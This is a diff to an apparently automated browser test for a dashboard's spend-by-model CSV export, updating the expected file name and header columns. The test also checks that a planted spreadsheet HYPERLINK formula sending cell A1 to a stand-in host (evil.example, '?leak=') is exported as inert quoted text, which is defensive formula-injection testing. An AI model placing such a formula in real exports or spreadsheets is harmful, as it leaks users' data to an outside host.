@@ -27,10 +27,11 @@ describe('dashboard CSV export', () => {
     const rows = page.locator('[data-table="finance-model"] tbody tr');
     await rows.filter({ hasText: 'HYPERLINK' }).first().waitFor();
     const [download] = await Promise.all([page.waitForEvent('download'), page.locator('button[data-csv="model"]').click()]);
-    expect(download.suggestedFilename()).toBe('spend-by-model.csv');
+    // The period is in the file name (from, to, zone) and in columns of every row.
+    expect(download.suggestedFilename()).toMatch(/^spend-by-model_\d{4}-\d{2}-\d{2}T\d{4}Z_\d{4}-\d{2}-\d{2}T\d{4}Z_UTC\.csv$/);
     const text = await readFile((await download.path())!, 'utf8');
     const lines = text.split('\r\n');
-    expect(lines[0]).toBe('model,requests,input_tokens,output_tokens,cost_usd,unpriced_requests,estimated_requests');
+    expect(lines[0]).toBe('model,period_from,period_to,time_zone,requests,input_tokens,output_tokens,cost_usd,share_of_cost,estimated_cost_usd,unpriced_requests,estimated_requests');
     const formula = lines.find((l) => l.includes('HYPERLINK'));
     // Quoted (it has commas and quotes), inner quotes doubled, and prefixed with ' so it is text, not a formula.
     expect(formula?.startsWith(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",`)).toBe(true);
